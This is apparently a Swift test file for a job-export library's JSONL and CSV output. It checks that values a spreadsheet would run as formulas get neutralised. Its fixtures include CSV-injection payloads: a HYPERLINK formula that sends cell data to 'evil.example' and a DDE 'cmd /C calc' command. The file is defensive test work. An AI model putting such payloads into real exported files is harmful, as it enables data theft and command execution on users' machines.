import Foundation
import JobFormats
import Testing

struct ExportFormatTests {
    @Test func succeededJobsCarryTheWholeResponseBody() throws {
        let row = ExportRow(
            jobID: 4, customID: "a", status: "succeeded", model: "m", content: "hi",
            rawResponse: #"{"id":"chatcmpl-1","choices":[]}"#, requestID: "req_1")
        let value = try JSONValue.decode(Data(ExportFormat.jsonl.line(for: row).utf8))
        #expect(value["id"] == .string("batch_req_4"))
        #expect(value["custom_id"] == .string("a"))
        #expect(value["error"] == .null)
        #expect(value["response"]?["status_code"] == .number(200))
        #expect(value["response"]?["request_id"] == .string("req_1"))
        #expect(value["response"]?["body"]?["id"] == .string("chatcmpl-1"))
    }

    @Test func jobsWithoutAResultCarryAnError() throws {
        let failed = ExportRow(jobID: 1, customID: "f", status: "failed", errorCode: "model_not_found", errorMessage: "gone")
        let value = try JSONValue.decode(Data(ExportFormat.jsonl.line(for: failed).utf8))
        #expect(value["response"] == .null)
        #expect(value["error"] == .object(["code": .string("model_not_found"), "message": .string("gone")]))
        let queued = ExportRow(jobID: 2, customID: "q", status: "queued")
        #expect(queued.effectiveError?.code == "not_finished")
    }

    @Test func csvQuotesWhatNeedsQuoting() {
        let row = ExportRow(
            jobID: 1, customID: "a,b", status: "succeeded", model: "m", content: "say \"hi\"\r\nnext",
            promptTokens: 3, completionTokens: 4, totalTokens: 7)
        #expect(ExportFormat.csv.line(for: row) == #""a,b",succeeded,m,"say ""hi"""# + "\r\n" + #"next",3,4,7,,"#)
        #expect(ExportFormat.csv.header == ExportFormat.csvHeader)
    }

    /// OWASP's CSV injection: answers follow prompts, so any cell (answer, error, input row, field,
    /// a header from the data file) may start a formula; a leading `'` makes it text.
    @Test func csvCellsASpreadsheetWouldRunAsFormulasGetALeadingQuote() throws {
        let link = #"=HYPERLINK("http://evil.example/?"&A1,"Click")"#
        let row = ExportRow(
            jobID: 1, customID: "@SUM(A1)", status: "failed", model: "m", content: link,
            errorCode: "-x", errorMessage: "+1+cmd|' /C calc'!A0",
            input: #"{"=cmd":"\tleading tab","note":"\r=1+1","n":"-3"}"#,
            parsed: #"{"score":-3,"delta":"+2.5e-3","expr":"-3+4","text":"a=b"}"#, batch: "=b")
        let columns = ExportColumns(batch: true, inputColumns: ["=cmd", "note", "n"], fields: ["score", "delta", "expr", "text"])
        let header = try #require(ExportFormat.csv.header(columns))
        #expect(header.hasPrefix("batch,custom_id,") && header.hasSuffix(",'=cmd,note,n,score,delta,expr,text"))
        let cells = ExportFormat.csv.line(for: row, columns)
        #expect(
            cells == #"'=b,'@SUM(A1),failed,m,"'=HYPERLINK(""http://evil.example/?""&A1,""Click"")",,,,'-x,'+1+cmd|' /C calc'!A0,"#
                + "'\tleading tab,\"'\r=1+1\",-3,-3,+2.5e-3,'-3+4,a=b")
        // --raw-csv: as stored, only quoted.
        let raw = ExportFormat.csv.line(for: row, columns, cells: .raw)
        #expect(raw.hasPrefix(#"=b,@SUM(A1),failed,m,"=HYPERLINK(""http://evil.example/?""&A1,""Click"")""#))
        #expect(raw.hasSuffix(",-3+4,a=b"))
        #expect(ExportFormat.csv.header(columns, cells: .raw)?.contains(",=cmd,") == true)
        // JSONL is JSON: unchanged.
        let jsonl = ExportFormat.jsonl.line(for: row, ExportColumns(batch: true, withInput: true))
        #expect(jsonl == ExportFormat.jsonl.line(for: row, ExportColumns(withInput: true), cells: .raw))
        #expect(try JSONValue.decode(Data(jsonl.utf8))["input"]?["note"] == .string("\r=1+1"))
    }

    /// A cell that is a whole number is data (`-3` from `--fields`), however it is signed or written.
    @Test func cellsThatAreWholeNumbersAreKept() {
        for number in ["-3", "+3", "-0.5", "-.5", "-5.", "+1e10", "-2E-7", "-12345678901234567890"] {
            #expect(CSVCells.neutralized(number) == number, "\(number)")
        }
        for text in ["-", "+", "-e5", "-1e", "-1-1", "-3 ", "- 3", "-0x10", "-1,5", "-.", "-3\n", "-١"] {
            #expect(CSVCells.neutralized(text) == "'" + text, "\(text)")
        }
        #expect(CSVCells.neutralized("3-1") == "3-1" && CSVCells.neutralized("") == "")
    }
}

struct JSONValueTests {
    @Test func textRoundTripsAndKeepsBooleansApartFromNumbers() throws {
        let text = #"{"a":true,"b":1,"c":0,"d":1.5,"e":false,"f":null,"g":[1,"x\n\"q\"\\",{"z":-2e-7}],"h":"é/𝄞\u0001"}"#
        let value = try JSONValue.decode(Data(text.utf8))
        #expect(value["a"] == .bool(true) && value["e"] == .bool(false))
        #expect(value["b"] == .number(1) && value["c"] == .number(0))
        #expect(value.jsonString() == #"{"a":true,"b":1,"c":0,"d":1.5,"e":false,"f":null,"g":[1,"x\n\"q\"\\",{"z":-0.0000002}],"h":"é/𝄞\u0001"}"#)
        #expect(try JSONValue.decode(Data(value.jsonString().utf8)) == value)
        let viaFoundation = try JSONSerialization.jsonObject(with: Data(value.jsonString().utf8)) as? [String: Any]
        #expect(viaFoundation?["h"] as? String == "é/𝄞\u{1}")
    }
}
